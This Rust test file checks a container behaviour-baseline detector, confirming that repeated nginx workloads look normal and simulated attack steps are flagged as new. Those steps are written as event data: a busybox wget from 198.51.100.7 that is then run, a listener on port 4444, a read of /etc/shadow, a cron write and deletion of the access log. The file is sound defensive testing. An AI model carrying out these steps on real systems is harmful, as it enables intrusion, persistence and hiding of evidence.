//! Baselines from recorded events: the same workload twice is the same, and each step of an attack is new once.

use std::collections::BTreeSet;

use alerts::{AllowedFact, Baseline, Container, Fact, Verdict, facts, facts_of};
use behaviour::{Behaviour, Builder, Limits};
use event::{
    Device, Direction, Event, Exec, ExecId, FileAccess, FileType, FileUsed, FlowUsed, ListenUsed, NameOperation,
    NameUsed, Outcome, PathId, Payload, Phase, PrivilegedOperation, PrivilegedUse, ProcessId, Protocol, RunId, TaskId,
    Text, Traffic,
};
use report::{Report, Workload};

/// A recording that counts up its processes, times and numbers from somewhere.
struct Recording {
    builder: Builder,
    events: Vec<Event>,
    pid: u32,
    at: u64,
}

impl Recording {
    fn new(first_pid: u32) -> Recording {
        let at = u64::from(first_pid) * 1000;
        Recording { builder: Builder::new(Limits::default()), events: Vec::new(), pid: first_pid, at }
    }

    fn event(&mut self, phase: Phase, payload: Payload) {
        self.at += 10;
        let process = ProcessId { pid: self.pid, start_ns: u64::from(self.pid) };
        let event = Event {
            boot_ns: self.at,
            run: RunId { slot: 1, generation: 0 },
            phase,
            task: TaskId { image: ExecId { process, exec: 1 }, tid: self.pid, comm: "x".into() },
            payload,
        };
        self.builder.observe(&event);
        self.events.push(event);
    }

    fn run(&mut self, path: &str, argv: &[&str]) {
        self.pid += 1;
        let exec = Exec {
            executable: path.into(),
            argument: path.into(),
            interpreter: Text::default(),
            cwd: "/".into(),
            argv: argv.iter().map(|&word| word.into()).collect(),
            argv_truncated: false,
            path_truncated: false,
            parent: ProcessId { pid: 1, start_ns: 1 },
            pid_inside: self.pid,
            uid: 0,
            gid: 0,
            uid_inside: Some(0),
            gid_inside: Some(0),
            user_namespace: 1,
            pid_namespace: 1,
            mount_namespace: 1,
        };
        self.event(Phase::Main, Payload::Exec(exec));
    }

    fn file(&mut self, path: &str, accesses: &[FileAccess]) {
        let number = self.at;
        let used = FileUsed {
            path: path.into(),
            argument: Text::default(),
            accesses: accesses.iter().copied().collect(),
            file: PathId(number),
            file_type: FileType::Regular,
            device: Device::default(),
            inode: number,
            inode_generation: 0,
            mount: 1,
            path_truncated: false,
            argument_truncated: false,
            deleted: false,
            unreachable: false,
        };
        self.event(Phase::Main, Payload::File(used));
    }

    fn delete(&mut self, path: &str) {
        let used = NameUsed {
            operation: NameOperation::Delete,
            path: path.into(),
            second_path: Text::default(),
            errno: None,
            name: PathId(self.at),
            truncated: false,
        };
        self.event(Phase::Main, Payload::Name(used));
    }

    fn flow(&mut self, direction: Direction, address: &str, port: u32, local_port: u32) {
        let used = FlowUsed {
            direction,
            protocol: Protocol::Tcp,
            address: address.into(),
            port,
            local_address: "10.0.0.2".into(),
            local_port,
            namespace: 1,
            device: Device::default(),
            inode: 0,
            errno: None,
            connections: 1,
            traffic: Traffic::default(),
            ends: vec![0; 5],
            connect_time: None,
        };
        self.event(Phase::Main, Payload::Flow(used));
    }

    fn listen(&mut self, port: u32) {
        let used = ListenUsed {
            protocol: Protocol::Tcp,
            address: "0.0.0.0".into(),
            port,
            namespace: 1,
            device: Device::default(),
            inode: 0,
            count: 1,
        };
        self.event(Phase::Main, Payload::Listen(used));
    }

    fn privileged(&mut self, operation: PrivilegedOperation, outcome: Outcome, object: &str) {
        let used = PrivilegedUse {
            operation,
            outcome,
            errno: None,
            details: Vec::new(),
            object: object.into(),
            source: Text::default(),
            type_name: Text::default(),
            truncated: false,
            before: None,
            after: None,
            target: None,
            target_comm: Text::default(),
            target_run: None,
            others: false,
            count: 1,
        };
        self.event(Phase::Main, Payload::Privileged(used));
    }

    /// The workload, with names and numbers that differ each time.
    fn work(&mut self, seed: u32) {
        self.run("/usr/sbin/nginx", &["nginx"]);
        self.listen(80);
        self.file("/etc/nginx/nginx.conf", &[FileAccess::OpenedToRead, FileAccess::Read]);
        self.run("/bin/busybox", &["sh", "-c", "x"]);
        for at in 0..3 {
            let made_up = format!("/tmp/tmp.{}", made_up(seed * 10 + at));
            self.file(&made_up, &[FileAccess::Created, FileAccess::OpenedToWrite, FileAccess::Written]);
            self.delete(&made_up);
        }
        let pid = self.pid;
        self.file(&format!("/proc/{pid}/oom_score_adj"), &[FileAccess::OpenedToWrite, FileAccess::Written]);
        self.file(&format!("/var/lib/nginx/body/00000{seed}"), &[FileAccess::Created, FileAccess::OpenedToWrite]);
        self.flow(Direction::In, &format!("192.0.2.{seed}"), 80, 80);
        self.flow(Direction::Out, "10.0.0.9", 5432, 40_000 + seed);
    }

    fn behaviour(&self) -> Behaviour {
        self.builder.freeze()
    }
}

/// As `mktemp` makes names: ten letters and digits.
fn made_up(seed: u32) -> String {
    const LETTERS: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789";
    let mut state = u64::from(seed).wrapping_mul(0x9E37_79B9_7F4A_7C15) | 1;
    let letter = |state: u64| LETTERS[(state >> 33) as usize % LETTERS.len()] as char;
    (0..10)
        .map(|_| {
            state = state.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
            letter(state)
        })
        .collect()
}

fn of_web() -> Workload {
    Workload { image: Some("nginx:1".into()), architecture: "x86_64".into(), ..Workload::default() }
}

fn web() -> Container {
    Container { name: Some("web".into()), image: Some("nginx:1".into()), ..Container::default() }
}

fn baseline(behaviour: &Behaviour, allowed: Vec<AllowedFact>) -> Baseline {
    let mut baseline = Baseline::of(&[], allowed);
    baseline.learn(alerts::Normal::of(of_web(), facts(behaviour).into_keys(), 1));
    baseline
}

/// What is new, by its events and by the whole behaviour.
fn new_of(baseline: &Baseline, recording: &Recording) -> BTreeSet<Fact> {
    let by_events =
        recording.events.iter().flat_map(|event| facts_of(&event.payload, event.phase)).map(|(fact, _)| fact);
    let all = by_events.chain(facts(&recording.behaviour()).into_keys());
    all.filter(|fact| baseline.verdict(&of_web(), &web(), fact) == Verdict::New).collect()
}

fn ordinary(seed: u32) -> Recording {
    let mut recording = Recording::new(1000 * seed);
    recording.work(seed);
    recording
}

#[test]
fn the_same_workload_again_is_nothing_new() {
    let baseline = baseline(&ordinary(1).behaviour(), vec![]);

    for seed in 2..9 {
        assert_eq!(new_of(&baseline, &ordinary(seed)), BTreeSet::new(), "run {seed}");
    }
}

#[test]
fn each_step_of_an_attack_is_new_once_and_nothing_else_is() {
    let baseline = baseline(&ordinary(1).behaviour(), vec![]);
    let mut attacked = ordinary(2);
    for _ in 0..3 {
        attacked.run("/bin/busybox", &["wget", "http://198.51.100.7/x"]);
        attacked.flow(Direction::Out, "198.51.100.7", 80, 41_000);
        attacked.file("/tmp/x", &[FileAccess::Created, FileAccess::Written]);
        attacked.run("/tmp/x", &["x"]);
        attacked.listen(4444);
        attacked.file("/etc/shadow", &[FileAccess::OpenedToRead]);
        attacked.file("/etc/cron.d/x", &[FileAccess::Created, FileAccess::Written]);
        attacked.delete("/var/log/nginx/access.log");
        attacked.privileged(PrivilegedOperation::Mount, Outcome::Denied, "/mnt");
    }

    let new = new_of(&baseline, &attacked);

    let words: BTreeSet<String> = new.iter().map(Fact::words).collect();
    let expected = [
        "ran wget (/bin/busybox)",
        "ran /tmp/x",
        "wrote or made /tmp/x",
        "wrote or made /etc/cron.d/x",
        "deleted /var/log/nginx/access.log",
        "opened /etc/shadow (passwords and who may become whom)",
        "listens on tcp * port 4444",
        "connected to tcp 198.51.100.7 port 80",
        "was denied mount on /mnt",
    ];
    assert_eq!(words, expected.iter().map(|&words| words.to_owned()).collect());
}

#[test]
fn what_is_allowed_is_normal_where_it_is_allowed_and_nowhere_else() {
    let fact = Fact::Program { path: "/tmp/x".into(), called: Text::default() };
    let allowed = |container: Option<&str>, image: Option<&str>| AllowedFact {
        container: container.map(Text::from),
        image: image.map(Text::from),
        fact: fact.clone(),
        alert: Text::default(),
    };
    let verdict = |allowed: AllowedFact, container: &Container| {
        baseline(&ordinary(1).behaviour(), vec![allowed]).verdict(&of_web(), container, &fact)
    };
    let other = Container { name: Some("other".into()), ..web() };

    assert_eq!(verdict(allowed(Some("web"), None), &web()), Verdict::Normal);
    assert_eq!(verdict(allowed(Some("web"), None), &other), Verdict::New);
    assert_eq!(verdict(allowed(None, Some("nginx:1")), &other), Verdict::Normal);
    assert_eq!(verdict(allowed(None, None), &web()), Verdict::New, "an entry about nobody allows nothing");
}

#[test]
fn a_workload_that_no_report_is_of_is_unknown_and_not_new() {
    let baseline = baseline(&ordinary(1).behaviour(), vec![]);
    let fact = Fact::Program { path: "/bin/x".into(), called: Text::default() };
    let other = Workload { image: Some("redis:7".into()), architecture: "x86_64".into(), ..Workload::default() };
    let nothing = Workload { architecture: "x86_64".into(), ..Workload::default() };

    for workload in [other, nothing] {
        assert_eq!(baseline.verdict(&workload, &web(), &fact), Verdict::Unknown, "{workload:?}");
        assert!(!baseline.knows(&workload));
    }
    assert!(Baseline::of(&Vec::<Report>::new(), vec![]).normal().is_empty());
}

#[test]
fn a_directory_with_many_files_takes_one_more_but_not_where_programs_and_settings_are() {
    for (directory, expected) in [("/var/spool/x", Verdict::Normal), ("/etc/x", Verdict::New), ("/tmp", Verdict::New)] {
        let mut recording = Recording::new(10);
        for at in 0..30 {
            let name: String = format!("{at:02}").bytes().map(|digit| (b'a' + digit - b'0') as char).collect();
            recording.file(&format!("{directory}/n{name}"), &[FileAccess::Created, FileAccess::Written]);
        }
        let fact = Fact::Write { path: format!("{directory}/another").as_str().into() };
        assert_eq!(baseline(&recording.behaviour(), vec![]).verdict(&of_web(), &web(), &fact), expected, "{directory}");
    }
}
